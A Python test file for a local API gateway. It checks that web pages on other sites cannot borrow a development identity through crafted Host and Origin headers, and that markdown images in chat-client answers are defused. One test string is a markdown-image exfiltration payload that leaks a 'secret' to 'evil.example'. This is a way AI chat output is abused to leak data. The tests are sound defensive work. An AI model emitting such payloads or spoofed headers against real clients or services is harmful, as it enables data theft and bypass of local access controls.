"""What a web page could do through a browser on this machine, and through a chat client that shows answers."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.requests import Request

from chassis.errors import PermissionDenied, Unauthenticated
from gateway.auth.authenticator import EdgeAuthenticator
from gateway.http.identity import HttpIdentity
from gateway.http.openai import _cut, without_images


def request(client: str = "127.0.0.1", **headers: str) -> Request:
    raw = [(name.replace("_", "-").encode(), value.encode()) for name, value in headers.items()]
    return Request({"type": "http", "method": "GET", "path": "/", "headers": raw, "client": (client, 5)})


DEVELOPMENT = HttpIdentity(EdgeAuthenticator(None, development=True), development=True)


@pytest.mark.parametrize(
    "headers",
    [
        {"host": "rebound.example:7780"},
        {"host": "127.0.0.1.evil.example"},
        {"host": "localhost.evil.example"},
        {"host": ""},
        {"host": "["},
        {"host": "127.0.0.1:7780", "origin": "https://evil.example"},
        {"host": "127.0.0.1:7780", "origin": "null"},
        {"host": "127.0.0.1:7780", "origin": "http://[::1"},
        {"host": "127.0.0.1:7780", "origin": "http://127.0.0.1@evil.example"},
        {"host": "127.0.0.1:7780", "sec_fetch_site": "cross-site"},
    ],
)
async def test_a_page_of_another_site_cannot_use_the_development_identity(headers: dict[str, str]) -> None:
    with pytest.raises(PermissionDenied, match="this machine"):
        await DEVELOPMENT.caller(request(**headers))


@pytest.mark.parametrize("host", ["127.0.0.1:7780", "localhost:7780", "[::1]:7780", "LOCALHOST"])
async def test_programs_of_this_machine_may(host: str) -> None:
    assert (await DEVELOPMENT.caller(request(host=host))).subject == "developer"
    assert (await DEVELOPMENT.caller(request(host=host, sec_fetch_site="same-origin"))).subject == "developer"


async def test_another_machine_may_not_even_with_the_right_host() -> None:
    with pytest.raises(Unauthenticated):
        await DEVELOPMENT.caller(request("192.0.2.7", host="127.0.0.1:7780"))


def test_images_are_not_loaded_and_marks_are_kept() -> None:
    planted = "Great![1] See ![logo](https://evil.example/?q=secret) and ![][ref]![12]"
    assert without_images(planted) == "Great![1] See !\\[logo](https://evil.example/?q=secret) and !\\[][ref]![12]"


@given(st.lists(st.text(alphabet="![]1a(", max_size=5), max_size=12))
def test_images_are_found_however_the_text_is_cut(pieces: list[str]) -> None:
    sent, held = "", ""
    for piece in pieces:
        whole, held = _cut(held + piece)
        sent += whole
    assert sent + without_images(held) == without_images("".join(pieces))
